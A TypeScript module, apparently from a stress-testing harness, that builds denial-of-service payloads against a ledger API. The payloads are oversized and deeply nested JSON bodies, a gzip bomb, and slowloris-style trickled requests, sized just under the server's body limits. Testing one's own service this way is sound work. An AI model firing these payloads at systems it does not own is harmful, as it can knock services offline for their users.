import { gzipSync } from 'node:zlib';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';
import type { Attacker } from '../attacker.js';

const MIB = 1024 * 1024;
/** Just below the limit of a bulk body, 10 MiB. */
const BULK_BYTES = 10 * MIB - 100;
/** Just below the limit of any other body, 1,280 KiB. */
const BYTES = 1_280 * 1024 - 100;

/** `start`, then as many copies of a text as fit, then `end`. */
const filled = (start: string, copy: string, end: string, bytes = BULK_BYTES): Buffer =>
  Buffer.from(start + copy.repeat(Math.floor((bytes - start.length - end.length) / copy.length)) + end);

/** Six parallel loops that put a ledger body, which is made when it is first needed. */
const putLedger = (name: string, does: string, body: () => Buffer, rest: Partial<Attack> = {}): Attack => ({
  name,
  does,
  run: (attacker) => {
    const bytes = body();
    return attacker.repeat(6, () => attacker.call('PUT', '/ledger', bytes));
  },
  ...rest,
});

/** As long as a bulk body may be, by spaces. */
const padded = (json: string): Buffer => Buffer.from(json.padEnd(BULK_BYTES));

const smallLists = (levels: number): string => `${'['.repeat(levels)}0${']'.repeat(levels)}`;

const manyKeys = (bytes: number): Buffer => {
  const keys: string[] = [];
  for (let size = 0; size < bytes - 20; size += keys.at(-1)!.length + 1) keys.push(`"k${keys.length}":0`);
  return Buffer.from(`{${keys.join(',')}}`);
};

const validLedger = (): object => ({
  customers: Array.from({ length: 500 }, (_, n) => ({
    external_id: `C-${n}`,
    name: `${'Müller & Söhne '.repeat(15)}${n}`,
  })),
  invoices: Array.from({ length: 4_500 }, (_, n) => ({
    external_id: `I-${n}-${'x'.repeat(240)}`,
    invoice_number: `${'N'.repeat(240)}-${n}`,
    customer_external_id: `C-${n % 500}`,
    amount: '1234.56',
    currency: 'USD',
    issued_on: '2026-09-12',
    due_date: '2026-10-12',
    status: 'open',
  })),
});

export const BODIES: Attack[] = [
  putLedger('zeros', '6 × PUT ledger with a list of 5 million zeros', () => filled('{"a":[', '0,', '0]}')),
  {
    name: 'zeros in approve',
    does: '10 × POST approve with a list of 640,000 zeros',
    run: (attacker) => {
      const body = filled('{"comment":[', '0,', '0]}', BYTES);
      const path = '/actions/019aaf30-5e6f-7081-92a3-b4c5d6e7f809/approve';
      return attacker.repeat(10, () => attacker.call('POST', path, body));
    },
  },
  putLedger('nested lists', '6 × PUT ledger with lists nested 5 million deep', () =>
    Buffer.from(`{"a":${'['.repeat(5e6)}${']'.repeat(5e6)}}`),
  ),
  putLedger('small lists', '6 × PUT ledger with 199,999 values, all in lists of one value', () =>
    padded(`{"a":[${Array(33_333).fill(smallLists(5)).join()}]}`),
  ),
  putLedger(
    'nested objects',
    '6 × PUT ledger with objects nested 1.7 million deep',
    () => Buffer.from(`${'{"a":'.repeat(1.7e6)}0${'}'.repeat(1.7e6)}`),
    { isLong: true },
  ),
  putLedger('keys', '6 × PUT ledger with a million different keys', () => manyKeys(BULK_BYTES)),
  putLedger(
    'repeated key',
    '6 × PUT ledger with one key 1.7 million times',
    () => filled('{', '"a":0,', '"a":0}'),
    {
      isLong: true,
    },
  ),
  putLedger('long string', '6 × PUT ledger with a string of 10 MB', () => filled('{"a":"', 'x', '"}')),
  putLedger('escapes', '6 × PUT ledger with a string of 1.7 million \\u escapes', () =>
    filled('{"a":"', '\\u00fc', '"}'),
  ),
  putLedger('long numbers', '6 × PUT ledger with numbers of 17 digits', () =>
    filled('{"a":[', '1.2345678901234567,', '0]}'),
  ),
  putLedger(
    'one number',
    '6 × PUT ledger with a number of 10 million digits',
    () => filled('{"a":', '1', '}'),
    {
      isLong: true,
    },
  ),
  putLedger('valid ledger', '6 × PUT ledger with 5,000 valid rows, the longest that are accepted', () =>
    Buffer.from(JSON.stringify(validLedger())),
  ),
  {
    name: 'gzip bomb',
    does: '6 × PUT ledger with 100 kB that inflate to 100 MB',
    run: (attacker) => {
      const body = gzipSync(Buffer.alloc(100 * MIB, '0'));
      return attacker.repeat(6, () => attacker.call('PUT', '/ledger', body, { 'Content-Encoding': 'gzip' }));
    },
  },
  {
    name: 'trickled bodies',
    does: '100 bodies of which a byte arrives every 50 ms',
    run: (attacker) => Promise.all(Array.from({ length: 100 }, () => trickle(attacker))),
  },
];

async function trickle(attacker: Attacker): Promise<void> {
  const socket = await attacker.open();
  if (!socket) return;
  const headers = { 'Content-Type': 'application/json', 'Content-Length': '1000000' };
  socket.resume().write(attacker.text('PUT', '/ledger', headers));
  while (!attacker.isOver) {
    if (!socket.destroyed) socket.write(' ');
    await sleep(50);
  }
}
